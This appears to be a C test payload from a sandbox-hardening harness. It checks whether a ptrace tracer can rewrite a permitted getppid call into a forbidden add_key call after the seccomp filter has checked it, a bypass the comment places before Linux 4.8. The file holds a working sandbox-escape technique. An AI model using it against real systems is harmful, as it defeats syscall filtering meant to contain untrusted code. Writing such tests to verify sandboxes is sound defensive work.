// Lets a tracer change the number of a permitted call into that of a forbidden one after the filter
// has looked (possible before Linux 4.8). The forbidden call is add_key.
#include <sys/ptrace.h>
#include <sys/user.h>

#include "payload.h"

static void attack(int argc, char** argv) {
  (void)argc;
  (void)argv;
  pid_t child = fork();
  if (child < 0) inconclusive("fork: %s", strerror(errno));
  if (child == 0) {
    if (ptrace(PTRACE_TRACEME, 0, 0, 0)) _exit(99);
    raise(SIGSTOP);
    // getppid with the arguments of add_key; the tracer exchanges the number.
    long r = syscall(SYS_getppid, "user", "atoll-payload", "x", 1, -2);
    _exit(r > 0 ? 42 : errno);
  }
  int status;
  waitpid(child, &status, 0);
  if (WIFEXITED(status)) blocked_because("EPERM ptrace refused");
  if (ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL))
    blocked(errno);
  int changed = 0, entering = 1;
  ptrace(PTRACE_SYSCALL, child, 0, 0);
  while (waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
    if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
      struct user_regs_struct regs;
      ptrace(PTRACE_GETREGS, child, 0, &regs);
      if (entering && !changed && regs.orig_rax == SYS_getppid) {
        regs.orig_rax = SYS_add_key;
        ptrace(PTRACE_SETREGS, child, 0, &regs);
        changed = 1;
      }
      entering = !entering;
    }
    ptrace(PTRACE_SYSCALL, child, 0, 0);
  }
  if (!changed) inconclusive("the call was never seen");
  if (WIFSIGNALED(status)) blocked_because("SIGSYS the changed call was caught");
  if (WEXITSTATUS(status) == 42) succeeded("a changed call passed the filter");
  blocked(WEXITSTATUS(status));
}
